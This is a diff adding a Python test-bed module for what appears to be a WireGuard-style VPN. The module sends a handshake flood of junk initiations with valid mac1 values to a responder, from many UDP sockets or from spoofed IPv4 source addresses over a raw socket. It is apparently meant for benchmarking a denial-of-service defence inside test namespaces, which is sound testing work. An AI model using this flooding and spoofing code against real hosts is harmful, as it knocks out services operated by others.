@@ -1,0 +1,123 @@
+"""A handshake flood, as an attacker who knows the responder's public key sends it.
+
+Every datagram is a 148-byte initiation whose mac1 is valid for the responder (so each
+costs it a BLAKE2s check, and without a defence a DH) and whose body is random (so no
+handshake ever completes) with mac2 zero (the attacker never reads cookie replies).
+Two kinds:
+
+- ``ports``: from ``--ports`` UDP sockets of one source address (the issue's attack);
+- ``spoof``: from random source addresses of ``--spoof CIDR`` through a raw socket
+  (IP_HDRINCL; the kernel fills in the IP checksum, the UDP checksum is left 0).
+
+Run inside the attacker's namespace: ``python -m uspan.testbed.flood HOST PORT PUBKEY_B64
+--seconds S [--rate R] [--ports N | --spoof CIDR]``. It prints ``ready`` once its
+datagrams are built, floods, then prints ``sent N`` and exits. Only for namespaces a
+test or benchmark created.
+"""
+
+from __future__ import annotations
+
+import argparse
+import base64
+import ipaddress
+import os
+import random
+import socket
+import struct
+import sys
+import time
+
+from uspan.wg import cookie, crypto
+from uspan.wg.constants import INITIATION_SIZE, MAC_SIZE, MSG_INITIATION
+
+POOL = 4096  # distinct datagrams, cycled
+SPOOF_POOL = 65536  # with spoofing: distinct (source, port) pairs, cycled
+_CHUNK = 256  # datagrams sent between clock checks
+
+
+def junk_initiation(mac1_key: bytes) -> bytes:
+    """A random initiation whose mac1 is valid for the holder of ``mac1_key``."""
+    body = struct.pack("<I", MSG_INITIATION) + os.urandom(INITIATION_SIZE - 4 - 2 * MAC_SIZE)
+    return body + crypto.mac(mac1_key, body) + bytes(MAC_SIZE)
+
+
+def _udp_ip_packet(source: str, destination: str, sport: int, dport: int,
+                   payload: bytes) -> bytes:
+    """IPv4 + UDP header and payload; the kernel fills in IP id, length and checksum."""
+    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
+    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64,
+                         socket.IPPROTO_UDP, 0, socket.inet_aton(source),
+                         socket.inet_aton(destination))
+    return header + udp
+
+
+def _senders(args: argparse.Namespace, payloads: list[bytes]) -> list[tuple[object, bytes]]:
+    """(send function, datagram) pairs to cycle through."""
+    dest = (args.host, args.port)
+    if args.spoof:
+        network = ipaddress.IPv4Network(args.spoof)
+        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+        raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+        first, size = int(network.network_address) + 1, network.num_addresses - 2
+        out: list[tuple[object, bytes]] = []
+        for payload in payloads:
+            source = str(ipaddress.IPv4Address(first + random.randrange(size)))
+            packet = _udp_ip_packet(source, args.host, random.randrange(1024, 65536),
+                                    args.port, payload)
+            out.append((raw.sendto, packet))
+        return out
+    sockets = []
+    for _ in range(args.ports):
+        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        sock.connect(dest)
+        sockets.append(sock)
+    return [(sockets[i % len(sockets)].send, p) for i, p in enumerate(payloads)]
+
+
+def flood(args: argparse.Namespace) -> int:
+    key = cookie.mac1_key(base64.b64decode(args.public))
+    payloads = [junk_initiation(key) for _ in range(SPOOF_POOL if args.spoof else POOL)]
+    pairs = _senders(args, payloads)
+    spoof = bool(args.spoof)
+    dest = (args.host, 0)
+    print("ready", flush=True)
+    sent = 0
+    start = time.monotonic()
+    end = start + args.seconds
+    while True:
+        now = time.monotonic()
+        if now >= end:
+            break
+        if args.rate and sent > (now - start) * args.rate:
+            time.sleep(min(0.001, end - now))
+            continue
+        offset = sent % len(pairs)
+        chunk = pairs[offset:offset + _CHUNK]
+        for send, datagram in chunk:
+            try:
+                if spoof:
+                    send(datagram, dest)  # type: ignore[operator]
+                else:
+                    send(datagram)  # type: ignore[operator]
+            except OSError:  # ENOBUFS, ECONNREFUSED from an earlier ICMP: keep going
+                pass
+        sent += len(chunk)
+    print(f"sent {sent}", flush=True)
+    return 0
+
+
+def main(argv: list[str] | None = None) -> int:
+    parser = argparse.ArgumentParser(prog="python -m uspan.testbed.flood")
+    parser.add_argument("host")
+    parser.add_argument("port", type=int)
+    parser.add_argument("public", help="the responder's public key, base64")
+    parser.add_argument("--seconds", type=float, default=15.0)
+    parser.add_argument("--rate", type=float, default=0.0,
+                        help="datagrams/s (0: as fast as possible)")
+    parser.add_argument("--ports", type=int, default=64, help="source sockets (64)")
+    parser.add_argument("--spoof", metavar="CIDR", help="random IPv4 sources from CIDR instead")
+    return flood(parser.parse_args(argv))
+
+
+if __name__ == "__main__":
+    sys.exit(main())
